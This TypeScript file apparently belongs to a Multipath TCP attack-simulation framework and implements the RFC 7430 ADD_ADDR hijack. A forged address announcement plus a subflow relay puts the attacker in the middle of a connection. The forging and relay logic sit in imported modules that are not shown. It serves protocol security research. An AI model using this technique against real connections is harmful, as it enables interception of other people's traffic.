/**
 * RFC 7430 §2: an ADD_ADDR announcing the attacker's own address, forged
 * on a subflow it has seen (`forgeAddAddr`). If the victim accepts it, it
 * joins the attacker's address; the attacker passes that join on to the
 * real peer (`SubflowRelay`), both HMACs verify because they do not cover
 * addresses, and the attacker sits in the middle of a subflow.
 */
import type { Out } from '../../scenario/schema-dsl.ts';
import { parseIp, type IpAddress } from '../../wire/ip-address.ts';
import type { ADD_ADDR_HIJACK_PARAMS } from '../catalog.ts';
import { addAddrGuesses, forgeAddAddr } from '../forge-add-addr.ts';
import { SubflowRelay, type Endpoint } from '../relay.ts';
import type { AttackContext, AttackStrategy, ObservedPacket, StrategyDefinition } from '../strategy.ts';

type Params = Out<typeof ADD_ADDR_HIJACK_PARAMS>;

class AddAddrHijack implements AttackStrategy {
  private relay: SubflowRelay | null = null;
  /** The real end a join to the attacker is passed on to. */
  private target: Endpoint | null = null;

  constructor(private readonly p: Params) {}

  start(ctx: AttackContext): void {
    const own = ctx.spec.address === undefined ? null : parseIp(ctx.spec.address);
    if (!own) return;
    this.relay = new SubflowRelay(own, () => this.target);
    ctx.later(this.p.atUs, () => this.forge(ctx, own));
  }

  receive(ctx: AttackContext, p: ObservedPacket): void {
    this.relay?.handle(ctx, p);
  }

  private forge(ctx: AttackContext, own: IpAddress): void {
    this.target = forgeAddAddr(ctx, own, this.p.addressId, this.p.victim);
  }

  expectedGuesses(ctx: AttackContext): { guesses: number; why: string } {
    return addAddrGuesses(ctx);
  }
}

export const addAddrHijack: StrategyDefinition = {
  create: (params) => new AddAddrHijack(params as Params),
};
